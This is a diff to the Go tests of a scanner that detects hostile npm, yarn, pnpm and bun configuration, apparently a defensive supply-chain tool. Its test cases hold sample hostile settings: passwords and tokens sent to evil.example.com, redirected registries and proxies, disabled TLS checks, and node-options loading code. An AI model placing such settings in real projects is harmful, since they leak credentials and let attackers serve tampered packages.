@@ -21,7 +21,7 @@ func parse(t *testing.T, raw string) registry.URL {
 func scan(t *testing.T, name, text string) string {
 	t.Helper()
 	var out []string
-	for _, d := range Scan(Project{map[string][]byte{name: []byte(text)}, []registry.URL{parse(t, "https://registry.example.com/npm/")}}) {
+	for _, d := range Scan(Project{Files: map[string][]byte{name: []byte(text)}, Known: []registry.URL{parse(t, "https://registry.example.com/npm/")}}) {
 		if d.File != name {
 			t.Errorf("file is %q", d.File)
 		}
@@ -65,7 +65,7 @@ func TestDangers(t *testing.T) {
 		{".npmrc", "[x]\n//evil.example.com/:_password=${A:-b}", "2 hostile-variable high //evil.example.com/:_password evil.example.com A"},
 		{".npmrc", "_auth=${X?}", "1 hostile-variable high _auth  X"},
 		{".npmrc", "user-agent=${X}", "1 hostile-variable high user-agent  X"},
-		{".npmrc", "registry=https://${X}.evil.example.com/${Y}", "1 hostile-variable high registry ${x}.evil.example.com X\n1 hostile-variable high registry ${x}.evil.example.com Y"},
+		{".npmrc", "registry=https://${X}.evil.example.com/${Y}", "1 hostile-variable high registry ${x}.evil.example.com X\n1 hostile-variable high registry ${x}.evil.example.com Y\n1 hostile-address high registry ${x}.evil.example.com "},
 		{".npmrc", "userconfig = ./x", "1 hostile-userconfig high userconfig  "},
 		{".npmrc", "\"user\\u0063onfig\"=./x", "1 hostile-userconfig high userconfig  "},
 		{".npmrc", "prefix=x\nglobalconfig=y", "1 hostile-globalconfig high prefix  \n2 hostile-globalconfig high globalconfig  "},
@@ -73,7 +73,7 @@ func TestDangers(t *testing.T) {
 		{".npmrc", "strict-ssl=false\nca[]=x\ncafile=y", "1 hostile-tls high strict-ssl  \n2 hostile-tls high ca  \n3 hostile-tls high cafile  "},
 		{".npmrc", "//evil.example.com/:tokenHelper=/x", "1 hostile-helper high //evil.example.com/:tokenHelper evil.example.com "},
 		{".npmrc", "git=./git\nnode-options=--require ./x.js", "1 hostile-program high git  \n2 hostile-program high node-options  "},
-		{".npmrc", "${NPM_TOKEN}=x", "1 hostile-variable high   NPM_TOKEN"},
+		{".npmrc", "${NPM_TOKEN}=x", "1 hostile-unreadable high   NPM_TOKEN"},
 		{".yarnrc", "yarn-path ./y.js\nhttps-proxy \"http://evil.example.com\"", "1 hostile-yarn-path low yarn-path  \n2 hostile-proxy high https-proxy evil.example.com "},
 		{".yarnrc", "--install.strict-ssl false\n--*.registry \"https://evil.example.com\"", "1 hostile-tls high strict-ssl  \n2 hostile-registry low registry evil.example.com "},
 		{"package.json", "{\"publishConfig\":{\"strict-ssl\":false}}", "1 hostile-tls high strict-ssl  "},
@@ -84,8 +84,8 @@ func TestDangers(t *testing.T) {
 		{".yarnrc.yml", "a: !!binary ${X}", "0 hostile-unreadable high   "},
 		{"pnpm-workspace.yaml", "registries:\n  default: https://evil.example.com/${A}/\nstrictSsl: false\nhttpsProxy: http://evil.example.com", "2 hostile-variable high registries.default evil.example.com A\n3 hostile-tls high strictSsl  \n4 hostile-proxy high httpsProxy evil.example.com "},
 		{"bunfig.toml", "[install.registry]\nurl='https://evil.example.com'\ntoken='$A'", "2 hostile-registry low url evil.example.com \n3 hostile-variable high token evil.example.com A"},
-		{"bunfig.toml", "[install.scopes]\na='https://$A.evil.example.com'", "2 hostile-variable high a $a.evil.example.com A"},
-		{"bunfig.toml", "install.cafile='x'\n[", "0 hostile-unreadable low   \n1 hostile-tls high cafile  "},
+		{"bunfig.toml", "[install.scopes]\na='https://$A.evil.example.com'", "2 hostile-variable high a $a.evil.example.com A\n2 hostile-address high a $a.evil.example.com "},
+		{"bunfig.toml", "install.cafile='x'\n[", "0 hostile-unreadable high   \n1 hostile-tls high cafile  "},
 		{".env", "export NPM_CONFIG_REGISTRY='http://evil.example.com/'\nHTTPS_PROXY=x", "1 hostile-env high NPM_CONFIG_REGISTRY evil.example.com \n2 hostile-env high HTTPS_PROXY  "},
 		{".env.yarn", "YARN_NPM_REGISTRY_SERVER=x\nNODE_TLS_REJECT_UNAUTHORIZED=0", "1 hostile-env high YARN_NPM_REGISTRY_SERVER  \n2 hostile-env high NODE_TLS_REJECT_UNAUTHORIZED  "},
 		{"package.json", "{\n\"publishConfig\":{\"registry\":\"https://evil.example.com/\"}}", "2 hostile-registry low registry evil.example.com "},
@@ -192,28 +192,5 @@ func TestSeal(t *testing.T) {
 	got := text(Own{LaxSSL: true, HTTPSProxy: "http://proxy.example.com:3128", Proxy: "http://u:p@proxy.example.com"})
 	if strings.Contains(got, "ssl") || strings.Contains(got, "YARN") || strings.Contains(got, "{npm_config_proxy") || !strings.Contains(got, "{npm_config_https_proxy http://proxy.example.com:3128}") {
 		t.Error(got)
-	}
-}
-
-func FuzzScan(f *testing.F) {
-	f.Add("registry=https://${X}/\n[a]\nb")
-	f.Fuzz(func(t *testing.T, text string) {
-		files := map[string][]byte{}
-		for _, name := range Names {
-			files[name] = []byte(text)
-		}
-		for _, d := range Scan(Project{Files: files}) {
-			if d.Code == "" || d.Severity == "" || d.File == "" {
-				t.Errorf("%+v", d)
-			}
-		}
-	})
-}
-
-func BenchmarkLock(b *testing.B) {
-	text := []byte(strings.Repeat("      \"resolved\": \"https://registry.example.com/npm/some-package/-/some-package-1.0.0.tgz\",\n      \"integrity\": \"sha512-x\",\n", 20_000))
-	b.SetBytes(int64(len(text)))
-	for b.Loop() {
-		Scan(Project{Files: map[string][]byte{"package-lock.json": text}})
 	}
 }
